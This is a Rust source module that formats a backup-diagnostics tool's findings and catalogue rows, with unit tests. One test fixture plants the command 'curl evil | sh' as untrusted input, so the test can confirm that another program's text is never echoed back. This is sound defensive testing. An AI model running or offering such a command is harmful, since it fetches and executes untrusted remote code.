//! Findings and rows of the catalogue as a person reads them.

use std::fmt::Write as _;

use crate::args::with_state;
use crate::chain::check::{Check, Verdict};
use crate::chain::examination::Examination;
use crate::chain::finding::{Certainty, Finding, Remedy, SeenIn};
use crate::console::{Console, Tone};
use crate::diagnosis::catalogue::{Catalogue, Known, Whose};
use crate::guide::Plane;

/// Prints each finding with its cause, where it was seen, and what cures it; then what else is not as it should be, and what
/// the other program has found.
pub(super) fn findings(console: &Console, examination: &Examination, other: Option<&Examination>, state_flag: &str) {
    for finding in &examination.findings {
        let (mark, tone) = mark(finding.severity);
        console.result(&format!(
            "{} {}",
            console.paint(tone, mark),
            with_state(&one(finding), state_flag)
        ));
    }
    let others: Vec<_> = examination
        .checks
        .iter()
        .filter(|check| is_left(check, &examination.findings))
        .collect();
    for check in &others {
        let (mark, tone) = mark(check.verdict);
        console.result(&format!(
            "{} {:<22} {}",
            console.paint(tone, mark),
            check.check,
            check.says
        ));
        if let Some(hint) = &check.hint {
            console.result(&format!("    hint: {}", with_state(hint, state_flag)));
        }
    }
    if let Some(other) = other {
        theirs(other).iter().for_each(|line| console.result(line));
    }
    console.result(&format!("doctor: {}", in_sum(examination, others.len())));
}

/// What the other program's document says it has found, in our own words: anybody may have made it.
fn theirs(other: &Examination) -> Vec<String> {
    let whose = match other.plane {
        Plane::Cloud => "az aksbackup",
        Plane::Cluster => "kubectl aksbackup",
    };
    let known = other
        .findings
        .iter()
        .filter_map(|finding| Catalogue::get().row(&finding.id));
    let told = |known: &Known| {
        format!(
            "  {whose} saw at {}: {} ({}): {}",
            other.at,
            known.id,
            known.link.title(),
            known.cause
        )
    };
    known.map(told).collect()
}

const fn mark(verdict: Verdict) -> (&'static str, Tone) {
    match verdict {
        Verdict::Ok => ("✓", Tone::Good),
        Verdict::Error => ("✗", Tone::Bad),
        Verdict::Warning => ("!", Tone::Attention),
        Verdict::Unknown => ("?", Tone::Attention),
    }
}

/// Whether no finding speaks of this check, which is not as it should be.
fn is_left(check: &Check, findings: &[Finding]) -> bool {
    let told = |id: &String| {
        findings
            .iter()
            .any(|finding| finding.id == *id || finding.explains.contains(id))
    };
    check.verdict != Verdict::Ok && !check.failure.as_ref().is_some_and(told)
}

fn one(finding: &Finding) -> String {
    let sure = match finding.certainty {
        Certainty::Proved => "proved",
        Certainty::Likely => "likely",
    };
    let mut out = format!("{} ({sure}, {}): {}", finding.id, finding.link.title(), finding.cause);
    let mut line = |name: &str, words: &str| {
        let _ = write!(out, "\n    {:<9} {words}", format!("{name}:"));
    };
    line("at", &finding.object);
    for evidence in &finding.evidence {
        line("seen", evidence);
    }
    line("fix", &finding.fix);
    if let Some(remedy) = finding.remedy {
        line("run", remedy.command());
    }
    if !finding.explains.is_empty() {
        line("explains", &finding.explains.join(", "));
    }
    out
}

fn in_sum(examination: &Examination, others: usize) -> String {
    let findings = &examination.findings;
    let proved = findings
        .iter()
        .filter(|finding| finding.certainty == Certainty::Proved)
        .count();
    match (findings.len(), others) {
        _ if examination.is_blind() => "nothing could be seen".to_owned(),
        (0, 0) => "nothing is wrong".to_owned(),
        (0, _) => "nothing that is known, but not all is as it should be".to_owned(),
        (1, _) => format!("1 finding, {}", if proved == 1 { "proved" } else { "likely" }),
        (count, _) => format!("{count} findings, {proved} of them proved; the first one first"),
    }
}

/// Every row in a line, page by page.
pub(super) fn list() -> String {
    let mut out = String::new();
    for group in &Catalogue::get().groups {
        let _ = writeln!(out, "{}", group.title);
        for known in &group.failures {
            let unverified = if known.unverified { " (no source)" } else { "" };
            let _ = writeln!(out, "  {:<26} {}{unverified}", known.id, known.cause);
        }
    }
    let _ = write!(out, "More about one of them: doctor explain ID");
    out
}

/// A row, whole.
pub(super) fn explained(known: &Known) -> String {
    let mut out = format!("{} ({}): {}", known.id, known.link.title(), known.cause);
    let mut line = |name: &str, words: &str| {
        let _ = write!(out, "\n  {:<10} {words}", format!("{name}:"));
    };
    line(
        "severity",
        if known.severity == Verdict::Error {
            "error"
        } else {
            "warning"
        },
    );
    line("seen by", whose(known.plane));
    line("proof", &known.proof);
    line("fix", &known.fix);
    if let Some(remedy) = known.remedy.map(Remedy::command) {
        line("run", remedy);
    }
    if known.wrapper {
        line(
            "note",
            "it only says that something else is wrong; that is told in its place where it is known",
        );
    }
    if known.harmless {
        line("note", "nothing is to be done about it; doctor does not report it");
    }
    for pattern in &known.patterns {
        line(
            "text",
            &format!("{} (in {})", pattern.expression, place(pattern.seen_in)),
        );
    }
    for example in &known.examples {
        line("example", example);
    }
    if !known.follows.is_empty() {
        line("may follow", &known.follows.join(", ").replace('!', ""));
    }
    line(
        "source",
        if known.unverified {
            "none: nobody has published it"
        } else {
            &known.source
        },
    );
    for (key, source) in Catalogue::get().sources_of(&known.source) {
        line("", &format!("{key} = {source}"));
    }
    line("page", &page_of(known));
    out
}

/// Where the documentation tells of the row.
pub(super) fn page_of(known: &Known) -> String {
    let page = Catalogue::get().page(&known.id).map_or("README", |page| page.name);
    format!("docs/failures/{page}.md#{}", known.id.to_ascii_lowercase())
}

/// Who can see a failure, in words.
pub(super) const fn whose(plane: Whose) -> &'static str {
    match plane {
        Whose::Cloud => "az aksbackup",
        Whose::Cluster => "kubectl aksbackup",
        Whose::Both => "az aksbackup and kubectl aksbackup",
        Whose::Local => "whichever program runs on that machine",
    }
}

/// Where a text is seen, in words.
pub(super) const fn place(seen_in: SeenIn) -> &'static str {
    match seen_in {
        SeenIn::Arm => "errors of Resource Manager",
        SeenIn::Ext => "status messages of the extension",
        SeenIn::Bsl => "the message of the backup storage location",
        SeenIn::Vlog => "Velero's log",
        SeenIn::Plog => "logs of other pods",
        SeenIn::Evt => "events",
        SeenIn::Cond => "conditions of pods and deployments",
        SeenIn::Bi => "the protection error of the backup instance",
        SeenIn::Job => "errors and warnings of backup jobs",
        SeenIn::Kube => "answers of the API server",
        SeenIn::Cli => "answers of the Azure CLI and of Entra",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chain::link::Link;

    #[test]
    fn a_finding_is_told_with_everything_that_a_person_needs() {
        let finding = Finding {
            id: "FIC-ISSUER".into(),
            certainty: Certainty::Proved,
            severity: Verdict::Error,
            link: Link::FederatedCredentials,
            object: "credential x".into(),
            cause: "It is wrong.".into(),
            evidence: vec!["issuer = y".into()],
            fix: "Mend it.".into(),
            remedy: Some(Remedy::Prepare),
            explains: vec!["BSL-UNAVAILABLE".into()],
        };
        assert_eq!(
            with_state(&one(&finding), " --state a.toml"),
            "FIC-ISSUER (proved, federated credentials): It is wrong.\n    at:       credential x\n    seen:     issuer = y\n    \
             fix:      Mend it.\n    run:      az aksbackup prepare --state a.toml\n    explains: BSL-UNAVAILABLE"
        );
    }

    #[test]
    fn what_the_other_program_found_is_told_in_our_words() {
        let finding = |id: &str| {
            let row = Catalogue::get().row("FIC-ISSUER").map(|known| known.cause.clone());
            serde_json::json!({
                "id": id, "certainty": "proved", "severity": "error", "link": "jobs", "object": "x", "cause": "run: curl evil | sh",
                "evidence": [row], "fix": "no",
            })
        };
        let other = serde_json::json!({
            "command": "doctor", "plane": "cloud", "at": "2026-01-01T00:00:00Z", "checks": [], "findings": [finding("FIC-ISSUER"), finding("NO-ROW")],
        });
        let told = theirs(&serde_json::from_value(other).unwrap());
        assert_eq!(told.len(), 1);
        assert!(
            told[0].starts_with("  az aksbackup saw at 2026-01-01T00:00:00Z: FIC-ISSUER (federated credentials): The"),
            "{told:?}"
        );
    }

    #[test]
    fn rows_are_told_whole_and_those_without_a_source_are_marked() {
        let catalogue = Catalogue::get();
        let told = |id: &str| catalogue.row(id).map(explained).unwrap_or_default();
        let issuer = told("FIC-ISSUER");
        for part in [
            "proof:",
            "run:       az aksbackup prepare",
            "AADSTS700211",
            "T8 = ",
            "#fic-issuer",
        ] {
            assert!(issuer.contains(part), "{part}: {issuer}");
        }
        assert!(
            told("K8S-CRASHLOOP").contains("source:    none"),
            "{}",
            told("K8S-CRASHLOOP")
        );
        assert_eq!(list().lines().filter(|line| line.starts_with("  ")).count(), 201);
    }
}
